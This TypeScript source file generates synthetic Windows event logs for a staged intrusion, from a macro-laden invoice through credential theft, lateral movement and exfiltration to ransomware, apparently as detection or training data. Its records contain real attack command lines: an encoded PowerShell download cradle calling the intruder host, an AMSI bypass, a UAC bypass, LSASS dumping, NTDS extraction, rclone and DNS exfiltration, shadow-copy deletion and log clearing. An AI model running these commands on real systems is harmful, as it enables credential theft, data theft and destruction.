import {
  DOMAIN_CONTROLLER,
  FILE_SERVER,
  INTRUDER,
  NETBIOS,
  WORKSTATION,
  accountSid,
  at,
  type Machine,
} from './cast.ts';
import {
  connection,
  dnsQuery,
  fileCreated,
  processStart,
  registrySet,
  scriptBlock,
  security,
  sysmon,
  system,
  type WindowsRecord,
} from './windows-record.ts';

const SYSTEM32 = 'C:\\Windows\\System32\\';
const CMD = `${SYSTEM32}cmd.exe`;
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
/** The intruder's program; harmless here: it exists only as a name. */
const IMPLANT = 'C:\\Users\\Public\\svc.exe';

/** A command in a shell of the intruder's program. */
function command(machine: Machine, ts: number, image: string, commandLine: string): WindowsRecord {
  return processStart(machine, ts, {
    image: `${SYSTEM32}${image}`,
    commandLine,
    parent: CMD,
    integrity: 'High',
  });
}

/** Base64 of UTF-16, as -EncodedCommand wants it. */
function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Day 1, 09:12: a letter with a macro, a loader in memory, three ways to come back. */
function foothold(): readonly WindowsRecord[] {
  const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://${INTRUDER}/u')`;
  const blind =
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)";
  return [
    processStart(WORKSTATION, at(1, 9, 12, 41), {
      image: WORD,
      commandLine: `"${WORD}" /n "C:\\Users\\analyst\\Downloads\\Invoice_0310.docm"`,
      parent: 'C:\\Windows\\explorer.exe',
    }),
    processStart(WORKSTATION, at(1, 9, 13, 20), {
      image: POWERSHELL,
      commandLine: `powershell.exe -nop -w hidden -enc ${encoded(cradle)}`,
      parent: WORD,
    }),
    scriptBlock(WORKSTATION, at(1, 9, 13, 21), blind),
    scriptBlock(WORKSTATION, at(1, 9, 13, 22), cradle),
    connection(WORKSTATION, at(1, 9, 13, 23), { image: POWERSHELL, to: INTRUDER, port: 80 }),
    fileCreated(WORKSTATION, at(1, 9, 13, 30), POWERSHELL, IMPLANT),
    processStart(WORKSTATION, at(1, 9, 13, 34), {
      image: IMPLANT,
      commandLine: 'svc.exe',
      parent: POWERSHELL,
    }),
    connection(WORKSTATION, at(1, 9, 13, 36), { image: IMPLANT, to: INTRUDER, port: 443 }),
    registrySet(WORKSTATION, at(1, 9, 21, 5), {
      image: IMPLANT,
      target: `HKU\\${accountSid('analyst')}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater`,
      details: `powershell -w hidden -c Start-Process ${IMPLANT}`,
    }),
    command(
      WORKSTATION,
      at(1, 9, 22, 10),
      'schtasks.exe',
      `schtasks /create /tn Updater /sc minute /mo 30 /tr ${IMPLANT}`,
    ),
    fileCreated(
      WORKSTATION,
      at(1, 9, 23, 2),
      IMPLANT,
      'C:\\Users\\analyst\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.vbs',
    ),
  ];
}

/** Day 1, 09:30: where am I, and how do I get more. */
function discoveryAndElevation(): readonly WindowsRecord[] {
  return [
    command(WORKSTATION, at(1, 9, 30, 12), 'whoami.exe', 'whoami /all'),
    command(WORKSTATION, at(1, 9, 31, 4), 'nltest.exe', 'nltest /domain_trusts /all_trusts'),
    command(WORKSTATION, at(1, 9, 31, 40), 'net.exe', 'net group "Domain Admins" /domain'),
    registrySet(WORKSTATION, at(1, 9, 41, 8), {
      image: IMPLANT,
      target: `HKU\\${accountSid('analyst')}_Classes\\ms-settings\\shell\\open\\command\\(Default)`,
      details: IMPLANT,
    }),
    processStart(WORKSTATION, at(1, 9, 41, 15), {
      image: IMPLANT,
      commandLine: 'svc.exe',
      parent: `${SYSTEM32}fodhelper.exe`,
      integrity: 'High',
    }),
    processStart(WORKSTATION, at(1, 9, 50, 2), {
      image: POWERSHELL,
      commandLine: 'powershell.exe Add-MpPreference -ExclusionPath C:\\Users\\Public',
      parent: IMPLANT,
      integrity: 'High',
    }),
  ];
}

/** Day 1, 10:04: passwords out of memory, out of Kerberos, and out of the directory. */
function credentials(): readonly WindowsRecord[] {
  return [
    {
      ts: at(1, 10, 4, 30),
      machine: WORKSTATION,
      channel: 'Microsoft-Windows-Windows Defender/Operational',
      provider: 'Microsoft-Windows-Windows Defender',
      eventId: 1116,
      data: {
        'Threat Name': 'HackTool:Win64/Mimikatz!sample',
        'Severity Name': 'High',
        Path: 'file:_C:\\Users\\analyst\\Downloads\\m.zip',
        'Detection User': `${NETBIOS}\\analyst`,
        'Process Name': IMPLANT,
      },
    },
    command(
      WORKSTATION,
      at(1, 10, 5, 44),
      'rundll32.exe',
      `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\l.dmp full`,
    ),
    sysmon(WORKSTATION, at(1, 10, 5, 45), 10, {
      SourceProcessId: 4312,
      SourceImage: `${SYSTEM32}rundll32.exe`,
      TargetProcessId: 724,
      TargetImage: `${SYSTEM32}lsass.exe`,
      GrantedAccess: '0x1fffff',
      CallTrace:
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbgcore.DLL+6e2f|C:\\Windows\\System32\\comsvcs.dll+2a1c',
      SourceUser: `${NETBIOS}\\analyst`,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
    security(DOMAIN_CONTROLLER, at(1, 10, 20, 9), 4769, {
      TargetUserName: 'analyst@EXAMPLE.TEST',
      TargetDomainName: 'EXAMPLE.TEST',
      ServiceName: 'svc-sql',
      TicketOptions: '0x40810000',
      TicketEncryptionType: '0x17',
      IpAddress: `::ffff:${WORKSTATION.address}`,
      Status: '0x0',
    }),
    security(DOMAIN_CONTROLLER, at(1, 13, 30, 11), 4662, {
      SubjectUserName: 'svc-backup',
      SubjectDomainName: NETBIOS,
      ObjectServer: 'DS',
      AccessMask: '0x100',
      Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}',
    }),
  ];
}

/** Day 1, 11:02: on to the file server and the domain controller. */
function lateralMovement(): readonly WindowsRecord[] {
  return [
    security(FILE_SERVER, at(1, 11, 2, 3), 4624, {
      SubjectUserName: '-',
      TargetUserSid: accountSid('svc-backup'),
      TargetUserName: 'svc-backup',
      TargetDomainName: NETBIOS,
      LogonType: 3,
      LogonProcessName: 'NtLmSsp',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: WORKSTATION.name,
      IpAddress: WORKSTATION.address,
      IpPort: '50112',
    }),
    security(FILE_SERVER, at(1, 11, 2, 5), 5145, {
      SubjectUserName: 'svc-backup',
      SubjectDomainName: NETBIOS,
      IpAddress: WORKSTATION.address,
      ShareName: '\\\\*\\ADMIN$',
      RelativeTargetName: 'Temp\\svc.exe',
      AccessMask: '0x2',
      AccessList: '%%1538 %%4417',
    }),
    system(FILE_SERVER, at(1, 11, 2, 9), 7045, {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    }),
    processStart(FILE_SERVER, at(1, 11, 5, 31), {
      image: CMD,
      commandLine: 'cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1',
      parent: `${SYSTEM32}wbem\\WmiPrvSE.exe`,
      integrity: 'High',
    }),
    processStart(DOMAIN_CONTROLLER, at(1, 13, 28, 50), {
      image: `${SYSTEM32}ntdsutil.exe`,
      commandLine: 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\d" q q',
      parent: `${SYSTEM32}wsmprovhost.exe`,
      user: 'svc-backup',
      integrity: 'High',
    }),
    security(DOMAIN_CONTROLLER, at(1, 14, 0, 7), 4720, {
      TargetUserName: 'helpdesk2',
      TargetDomainName: NETBIOS,
      TargetSid: accountSid('helpdesk2'),
      SubjectUserName: 'svc-backup',
      SubjectDomainName: NETBIOS,
    }),
    security(DOMAIN_CONTROLLER, at(1, 14, 0, 31), 4728, {
      MemberName: 'CN=helpdesk2,CN=Users,DC=example,DC=test',
      MemberSid: accountSid('helpdesk2'),
      TargetUserName: 'Domain Admins',
      TargetDomainName: NETBIOS,
      TargetSid: 'S-1-5-21-1004336348-1177238915-682003330-512',
      SubjectUserSid: accountSid('svc-backup'),
      SubjectUserName: 'svc-backup',
    }),
  ];
}

/** Day 2, 02:00: the files leave, also through names. */
function collectionAndExfiltration(): readonly WindowsRecord[] {
  const pieces = [
    'mzxw6ytboi4dcmrtgq2tmnzyhe4gcytdmrswmz3infvgw3dnnzxxa4',
    'ofzhg5dvoz3xq6l2mfrggzdfmzzwq2lkmnwg6zdtnf2hi4dvozsxe5a',
  ];
  return [
    processStart(FILE_SERVER, at(2, 2, 10, 4), {
      image: 'C:\\Users\\Public\\7z.exe',
      commandLine: '7z.exe a -mhe=on -pS4mple C:\\Users\\Public\\q.7z C:\\Shares\\Finance',
      parent: CMD,
      integrity: 'High',
    }),
    processStart(FILE_SERVER, at(2, 2, 19, 47), {
      image: 'C:\\Users\\Public\\rclone.exe',
      commandLine:
        'rclone.exe copy C:\\Users\\Public\\q.7z remote:q --config C:\\Users\\Public\\r.conf --transfers 8',
      parent: CMD,
      integrity: 'High',
    }),
    connection(FILE_SERVER, at(2, 2, 19, 49), {
      image: 'C:\\Users\\Public\\rclone.exe',
      to: INTRUDER,
      port: 443,
    }),
    ...pieces.map((piece, index) =>
      dnsQuery(WORKSTATION, at(2, 2, 40, index * 20), {
        image: IMPLANT,
        name: `${piece}.t.example.net`,
        answer: INTRUDER,
      }),
    ),
    connection(WORKSTATION, at(2, 2, 41, 30), { image: `${SYSTEM32}rundll32.exe`, to: INTRUDER, port: 443 }),
  ];
}

/** Day 2, 03:00: no way back, and no traces. */
function impact(): readonly WindowsRecord[] {
  const cleared = {
    provider: 'Microsoft-Windows-Eventlog',
    data: { SubjectUserName: 'svc-backup', SubjectDomainName: NETBIOS },
  };
  const notes = ['C:\\Shares\\Finance', 'C:\\Shares\\Projects', 'C:\\Users\\Public'].map((folder, index) =>
    fileCreated(FILE_SERVER, at(2, 3, 9, index * 3), IMPLANT, `${folder}\\HOW_TO_RESTORE_FILES.txt`),
  );
  return [
    command(FILE_SERVER, at(2, 3, 0, 12), 'net.exe', 'net stop "VeeamBackupSvc" /y'),
    command(FILE_SERVER, at(2, 3, 1, 3), 'vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'),
    command(FILE_SERVER, at(2, 3, 1, 9), 'bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'),
    processStart(FILE_SERVER, at(2, 3, 5, 0), {
      image: IMPLANT,
      commandLine: 'svc.exe --run C:\\Shares',
      parent: CMD,
      integrity: 'High',
    }),
    ...notes,
    command(FILE_SERVER, at(2, 3, 20, 40), 'wevtutil.exe', 'wevtutil cl Security'),
    { ts: at(2, 3, 20, 41), machine: FILE_SERVER, channel: 'Security', eventId: 1102, ...cleared },
    { ts: at(2, 3, 20, 52), machine: FILE_SERVER, channel: 'System', eventId: 104, ...cleared },
  ];
}

/** What the intruder does on Windows. The story is told in README.md. */
export function windowsAttack(): readonly WindowsRecord[] {
  return [
    ...foothold(),
    ...discoveryAndElevation(),
    ...credentials(),
    ...lateralMovement(),
    ...collectionAndExfiltration(),
    ...impact(),
  ];
}
